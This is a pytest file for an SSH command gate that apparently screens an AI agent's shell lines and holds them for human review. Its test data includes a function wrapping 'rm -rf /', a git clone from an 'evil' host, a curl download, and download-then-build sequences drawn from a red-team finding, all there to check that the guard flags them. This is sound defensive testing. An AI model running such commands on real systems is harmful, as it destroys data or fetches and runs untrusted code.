"""The deployed hooks' recorder wiring, with stand-ins for the connection and channel (the
end-to-end behaviour is in tests/integration)."""

from __future__ import annotations

import asyncio
import string
import threading
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sshgate.guard.parse import parse as parse_line
from sshgate.hooks import LONG_LINE, PLAIN_LINE, DeployedHooks, _track_functions
from sshgate.recording import writer
from sshgate.recording.writer import CastWriter


class Channel:
    def __init__(self) -> None:
        self.holds: list[tuple[str, str]] = []

    def hold(self, why: str) -> None:
        self.holds.append(("hold", why))

    def release(self, why: str) -> None:
        self.holds.append(("release", why))


def test_a_recorder_that_falls_behind_holds_the_relay_until_it_catches_up(tmp_path,
                                                                          monkeypatch):
    monkeypatch.setattr(writer, "LOW_WATER", 100)
    rec = CastWriter(tmp_path / "r.cast", width=80, height=24, title="t", sshgate={})
    gate = threading.Event()
    real_write = rec._file.write
    rec._file.write = lambda parts: (gate.wait(10), real_write(parts))
    chans = [Channel(), Channel()]
    conn = SimpleNamespace(state={}, sessions=set(chans))
    hooks = object.__new__(DeployedHooks)  # only the recorder wiring is exercised

    async def run() -> None:
        for _ in range(5):
            rec.output(b"x" * 5000)  # above INLINE_MAX: queued for the writer thread
        hooks._recorder_behind(conn, rec, chans[0])
        late = Channel()  # opened while the connection is held
        conn.sessions.add(late)
        hooks._recorder_behind(conn, rec, late)
        await asyncio.sleep(0.05)
        assert all(c.holds == [("hold", "recorder")] for c in [*chans, late])
        gate.set()
        for _ in range(500):
            if not conn.state["recorder_behind"]:
                break
            await asyncio.sleep(0.01)
        assert all(c.holds == [("hold", "recorder"), ("release", "recorder")]
                   for c in [*chans, late])

    asyncio.run(run())
    rec.close(None, "x")


WORD = st.text(alphabet=string.ascii_letters + string.digits + "./:=,+@%-_\u00e9", min_size=1,
               max_size=12)


@given(st.lists(WORD, min_size=1, max_size=8).map(" ".join).filter(lambda s: len(s) <= 64))
def test_a_line_classified_on_the_event_loop_is_one_plain_command(line):
    """PLAIN_LINE picks the lines decided without the guard's threads: one simple command
    of literal words, and the launchers it unwraps (``time nice make``: each a suffix of
    the words), so the parser's cost is small and bounded."""
    assert PLAIN_LINE.fullmatch(line)
    result = parse_line(line)
    words = tuple(line.split())
    assert len(result.commands) <= len(words) and len(result.problems) <= 1
    for c in result.commands:
        assert not any(c.dynamic) and not c.redirects
        if "fallback" in c.via:
            # a syntax error (``then 0 then``): held as unparseable whatever it holds
            assert result.problems, line
            continue
        assert words[len(words) - len(c.argv):] == c.argv, (line, c.argv)


@pytest.mark.parametrize("line", [
    "a|b", "a;b", "a&b", "$(x)", "`x`", "a'b", 'a"b', "a>b", "a<b", "a\\b", "a\nb", "a{b}",
    "a*", "a?", "[a]", "~", "a#b", "!a", "a(b)", "x" * 65, "", "a b c d e f g h i"])
def test_anything_else_goes_to_the_guard_threads(line):
    assert not PLAIN_LINE.fullmatch(line)


@given(st.text(alphabet=string.printable, max_size=60))
def test_a_line_without_parenthesis_or_function_keyword_defines_no_function(line):
    """_track_functions skips the parse for such lines: the parser must agree."""
    if "(" not in line and "function" not in line:
        assert parse_line(line).functions == ()


@pytest.mark.parametrize("line", ["f() { rm -rf /; }", "function f { :; }", "function f()(:)",
                                  "f () ( : )"])
def test_a_refused_line_that_defines_a_function_is_remembered(line):
    conn = SimpleNamespace(state={})
    _track_functions(conn, "true f", False)
    assert conn.state == {}
    _track_functions(conn, line, False)
    assert conn.state["refused_functions"] == {"f"}
    _track_functions(conn, line, True)
    assert conn.state["refused_functions"] == set()


def test_long_lines_take_turns_in_a_lane_of_their_own():
    """At most one long line at a time competes with the relay for the GIL, and ordinary
    lines never queue behind a flood of them."""
    hooks = object.__new__(DeployedHooks)
    hooks._guard, hooks._guard_long = object(), object()
    assert hooks._lane("ls -la /srv/app | head") is hooks._guard
    assert hooks._lane("x" * LONG_LINE) is hooks._guard
    assert hooks._lane("echo " + "$(x)" * (LONG_LINE // 4)) is hooks._guard_long


def _shell_session(lines: list[tuple[str, str]]) -> list:
    """Classify ``(cwd as the shell reports it, line)`` pairs in order through the deployed
    hooks' write memory, as a gated shell's lines are (each taken to have run)."""
    from sshgate.guard.memory import WriteMemory
    from sshgate.policy.evaluate import classify_for
    from sshgate.policy.model import Policy

    hooks = object.__new__(DeployedHooks)
    hooks.write_memory, hooks.fleet, hooks.config = WriteMemory(), None, None
    auth = SimpleNamespace(login="u", identity=SimpleNamespace(name="agent"),
                           target=SimpleNamespace(name="web"))
    conn = SimpleNamespace(authorization=auth)
    session = SimpleNamespace(mode="shell", shell_memory=None, shell_cwd="")
    out = []
    for cwd, line in lines:
        session.shell_cwd = cwd
        c = classify_for(Policy(), line, True, hooks.earlier(conn, session), cwd)
        out.append(c)
        assert asyncio.run(hooks.remember(conn, session, line, c)) is None
    return out


@pytest.mark.parametrize("gap", [["ls"], ["ls", "pwd"], []])
def test_a_gated_shell_in_a_subdirectory_keeps_its_writes_where_they_landed(gap):
    """The shell reports its directory with each line and the guard resolves the line's
    relative paths there (relative to the login's start directory): the memory places what
    a line wrote from that start, however many lines the shell stays in the subdirectory
    (before, a line in between placed later writes under app/app/...)."""
    lines = [("", "cd app"), *[("app", g) for g in gap],
             ("app", "tar -xzf /tmp/e.tgz -C sub"), *[("app", g) for g in gap],
             ("app", "cd sub && make")]
    *_, last = _shell_session(lines)
    assert "exec.download-then-run" in {f.rule for f in last.findings}, last.findings
    # from elsewhere, in the other spellings of the same tree
    for cwd, line in [("", "make -C app/sub"), ("/", "cd /home/u/app/sub && make"),
                      ("app/sub", "make")]:
        *_, c = _shell_session([*lines[:-1], (cwd, line)])
        assert {f.rule for f in c.findings} & {"exec.download-then-run", "guard.unknown"}, \
            (cwd, line)


def test_a_gated_shell_look_alike_stays_allowed():
    """The operator's own tree, in the same shell: nothing of it was written."""
    *_, last = _shell_session([("", "cd app"), ("app", "ls"), ("app", "tar -xzf /tmp/e.tgz -C "
                                                               "sub"), ("app", "cd own && make")])
    assert last.findings == (), last.findings


def test_a_gated_shell_holds_a_release_filled_after_its_switch():
    """Red team s9b F4 through the hooks' memory: the switch leaves its target live, the
    clone into it from the releases directory (a plain tree write there) is held."""
    *first, last = _shell_session([
        ("", "ln -sfn releases/20261201 ~/app/current"), ("", "cd app/releases"),
        ("app/releases", "ls"),
        ("app/releases", "git clone https://github.com/evil/x 20261201")])
    assert all(c.findings == () for c in first), [c.findings for c in first]
    assert "fs.link-sensitive" in {f.rule for f in last.findings}, last.findings
    *_, other = _shell_session([
        ("", "ln -sfn releases/20261201 ~/app/current"), ("", "cd app/releases"),
        ("app/releases", "git clone https://github.com/evil/x 20261202")])
    assert other.findings == (), other.findings


@pytest.mark.parametrize("reviewed", [True, False])
def test_remember_leaves_out_the_code_a_reviewer_approved(reviewed):
    """hooks.remember(reviewed=True) (a human approved the line): the code it edited in view
    (code.write) is not kept, so a later build is ordinary; unreviewed, it is kept and the
    build is held. Other writes of the line are kept either way."""
    from sshgate.guard import classify
    from sshgate.guard.memory import WriteMemory
    from sshgate.policy.model import Action

    from .guard.expect import TABLE_BUDGET

    hooks = object.__new__(DeployedHooks)
    hooks.write_memory, hooks.fleet, hooks.config = WriteMemory(), None, None
    auth = SimpleNamespace(login="u", identity=SimpleNamespace(name="agent"),
                           target=SimpleNamespace(name="web"))
    conn = SimpleNamespace(authorization=auth)
    session = SimpleNamespace(mode="exec", shell_memory=None, shell_cwd="")
    edit = "cd app && printf 'all:\\n\\ttrue\\n' > Makefile && curl -sSo x.tgz https://e.com/x"
    # (the tables' budget: a loaded machine must not turn the lines unparseable)
    c = classify(edit, seconds=TABLE_BUDGET)
    assert c.reviewed == ("app/Makefile",) and "app/x.tgz" in c.writes
    assert asyncio.run(hooks.remember(conn, session, edit, c, reviewed=reviewed)) is None
    kept = {w.path for scope in list(hooks.write_memory._scopes)
            for w in hooks.write_memory.written(scope, 0.0)}
    assert any(p.endswith("app/x.tgz") for p in kept)
    assert any(p.endswith("app/Makefile") for p in kept) is not reviewed
    later = classify("cd app && make", earlier=hooks.earlier(conn, session),
                     seconds=TABLE_BUDGET)
    assert (later.default_action is Action.ALLOW) is reviewed, later.findings
